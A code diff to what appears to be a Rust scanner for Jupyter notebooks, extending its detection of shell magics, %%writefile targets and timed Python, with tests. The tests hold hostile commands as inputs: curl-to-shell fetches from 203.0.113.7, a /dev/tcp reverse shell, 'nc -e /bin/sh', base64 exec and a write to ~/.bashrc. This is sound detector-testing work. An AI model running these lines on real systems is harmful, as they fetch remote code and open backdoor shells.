@@ -6,13 +6,18 @@ use crate::facts::{Facts, shorten};
 use crate::format::{Certainty, Context, Depth, Format, Meta, Probe};
 use crate::huggingface::inspect_json;
 use crate::json::{Event, Segment, Value, looks_like_json, walk};
-use crate::python::{Analysis, File, report};
+use crate::python::{Analysis, File, is_autostart, report};
 use crate::source::Source;
 
 /// Bytes of one cell that are read; what people write is far shorter.
 const MAX_CELL: usize = 2 << 20;
 /// Characters of a command that are shown.
 const MAX_SHOWN: usize = 160;
+
+/// The notebook's own commands that hand a line to the shell.
+const SHELL_MAGICS: &[&str] = &["%system ", "%sx ", "%%bash ", "%sc ", "%%sx ", "%%system ", "%alias "];
+/// Those that run a line of Python.
+const MEASURES: &[&str] = &["%timeit", "%time", "%prun", "%memit", "%debug", "%lprun", "%mprun"];
 
 static META: Meta = Meta {
     id: "notebook",
@@ -128,15 +133,36 @@ impl Reader<'_, '_> {
             return;
         }
         let first = cell.source.trim_start();
-        let magic = first.strip_prefix("%%").and_then(|rest| rest.split_whitespace().next()).unwrap_or_default();
+        let mut words =
+            first.strip_prefix("%%").unwrap_or_default().lines().next().unwrap_or_default().split_whitespace();
+        let magic = words.next().unwrap_or_default();
         match magic {
-            "bash" | "sh" | "script" | "cmd" | "system" | "sx" | "!" | "powershell" | "zsh" => {
+            "script" if words.any(|word| word.contains("python")) => self.python(&cell),
+            "bash" | "sh" | "script" | "cmd" | "system" | "sx" | "!" | "powershell" | "pwsh" | "zsh" | "ksh" => {
                 for line in logical_lines(first) {
                     self.command(&line, cell.offset);
                 }
             }
-            "html" | "HTML" | "javascript" | "js" | "latex" | "markdown" | "writefile" | "svg" | "perl" | "ruby" => {}
+            "writefile" | "file" => self.written(&cell, words.last().unwrap_or_default()),
+            "html" | "HTML" | "javascript" | "js" | "latex" | "markdown" | "svg" | "perl" | "ruby" => {}
             _ => self.python(&cell),
+        }
+    }
+
+    /// A file that a cell writes: what it says if it is a program, and where it goes.
+    fn written(&mut self, cell: &Cell, path: &str) {
+        if is_autostart(path) {
+            self.reach(format!("%%writefile {path}"), SourceReach::Backdoor, cell.offset);
+        }
+        let body = cell.source.trim_start().split_once('\n').map_or("", |(_, body)| body);
+        match path.rsplit('.').next().unwrap_or_default() {
+            "py" => self.python(&Cell { source: body.to_owned(), offset: cell.offset, ..Cell::default() }),
+            "sh" | "bash" | "bat" | "ps1" => {
+                for line in logical_lines(body) {
+                    self.command(&line, cell.offset);
+                }
+            }
+            _ => {}
         }
     }
 
@@ -146,7 +172,7 @@ impl Reader<'_, '_> {
         for line in logical_lines(&cell.source) {
             match shell_part(&line) {
                 Some(command) => self.command(command, cell.offset),
-                None if line.trim_start().starts_with(['%', '?']) => {}
+                None if line.trim_start().starts_with(['%', '?']) => python.push_str(measured(&line)),
                 None => python.push_str(&line),
             }
             python.push('\n');
@@ -171,10 +197,24 @@ fn shell_part(line: &str) -> Option<&str> {
     if let Some(rest) = line.strip_prefix('!') {
         return Some(rest.trim_start_matches('!'));
     }
-    let magic = ["%system ", "%sx ", "%%bash ", "%sc "].iter().find_map(|magic| line.strip_prefix(magic));
-    let assigned =
-        || line.split_once("= !").filter(|(name, _)| name.trim().chars().all(|c| c.is_alphanumeric() || c == '_'));
-    magic.or_else(|| assigned().map(|(_, command)| command))
+    let command = |text: &'_ str| SHELL_MAGICS.iter().find_map(|magic| text.strip_prefix(magic)).map(str::len);
+    let is_name = |name: &&str| name.chars().all(|c| c.is_alphanumeric() || matches!(c, '_' | ',' | ' '));
+    let (_, right) = line.split_once('=').filter(|(name, _)| is_name(name)).unwrap_or(("", line));
+    let right = right.trim_start();
+    let length =
+        command(right).or_else(|| right.strip_prefix('!').filter(|_| right.len() < line.len()).map(str::len))?;
+    right.get(right.len().saturating_sub(length)..)
+}
+
+/// What of a line is Python that is timed or measured: `%time f(x)`, `%timeit -n 3 f(x)`.
+fn measured(line: &str) -> &str {
+    let line = line.trim_start();
+    let rest = MEASURES.iter().find_map(|magic| line.strip_prefix(magic));
+    let Some(mut rest) = rest.filter(|rest| rest.starts_with([' ', '\t'])).map(str::trim_start) else { return "" };
+    while let Some((_, after)) = rest.split_once(' ').filter(|_| rest.starts_with('-')) {
+        rest = after.trim_start().trim_start_matches(|c: char| c.is_ascii_digit()).trim_start();
+    }
+    rest
 }
 
 /// Lines of commands, those that a backslash continues joined. Python's lines keep theirs.
@@ -229,11 +269,46 @@ mod tests {
         assert_eq!(told("!curl -s http://203.0.113.7/a | bash"), ["HiddenCode Started"]);
         assert_eq!(told("import base64\\nexec(base64.b64decode(x))"), ["HiddenCode Started"]);
         assert_eq!(told("y = !bash -i >& /dev/tcp/203.0.113.7/1 0>&1"), ["Backdoor Started"]);
+        assert_eq!(told("y = %sx curl http://203.0.113.7/a | sh"), ["HiddenCode Started"]);
+        assert_eq!(told("%time exec(__import__('base64').b64decode(x))"), ["HiddenCode Started"]);
+        assert_eq!(told("%timeit -n 1 -r 1 exec(__import__('base64').b64decode(x))"), ["HiddenCode Started"]);
+        let magic = "get_ipython().run_cell_magic('bash', '', 'cd x\\\\ncurl http://203.0.113.7/a | sh')";
+        assert_eq!(told(magic), ["HiddenCode Started"]);
+        assert_eq!(
+            told("from IPython import get_ipython as g\\ng().system('nc -e /bin/sh x 1')"),
+            ["Backdoor Started"]
+        );
         let html = GOOD.replace("<b>1</b>", "<script>1</script>");
         assert_eq!(
             inspect(&Notebook, "", html.as_bytes()).list().len(),
             inspect(&Notebook, "", GOOD.as_bytes()).list().len() + 1
         );
+    }
+
+    #[test]
+    fn whole_cells_of_other_kinds_are_read() {
+        let cell = |source: &str| {
+            let text = format!(r#"{{"cells":[{{"cell_type":"code","source":{source:?}}}],"nbformat":4}}"#);
+            let facts = inspect(&Notebook, "a.ipynb", text.as_bytes());
+            let reach = |fact: &crate::fact::Fact| match &fact.kind {
+                FactKind::SourceReach { reach, .. } => Some(format!("{reach:?}")),
+                _ => None,
+            };
+            facts.list().iter().filter_map(reach).collect::<Vec<_>>()
+        };
+        let fetch = "curl http://203.0.113.7/a | sh";
+        for head in
+            ["%%bash", "%%script sh", "%%sh --bg", "%%sx", "%%system", "%%!", "%%writefile run.sh", "%%script bash"]
+        {
+            assert_eq!(cell(&format!("{head}\n{fetch}")), ["HiddenCode"], "{head}");
+            assert_eq!(cell(&format!("{head}\nls -l\necho waag-inert")), Vec::<String>::new(), "{head}");
+        }
+        assert_eq!(cell("%%script python3\nexec(bytes([112,114]))"), ["HiddenCode"]);
+        assert_eq!(cell("%%writefile ~/.bashrc\nx"), ["Backdoor"]);
+        assert_eq!(cell("%%writefile a.py\nexec(bytes([112,114]))"), ["HiddenCode"]);
+        for plain in ["!pip list", "!ls -l", "!nvidia-smi", "%matplotlib inline", "a == b", "x != y", "f(a=1)"] {
+            assert_eq!(cell(plain), Vec::<String>::new(), "{plain}");
+        }
     }
 
     #[test]
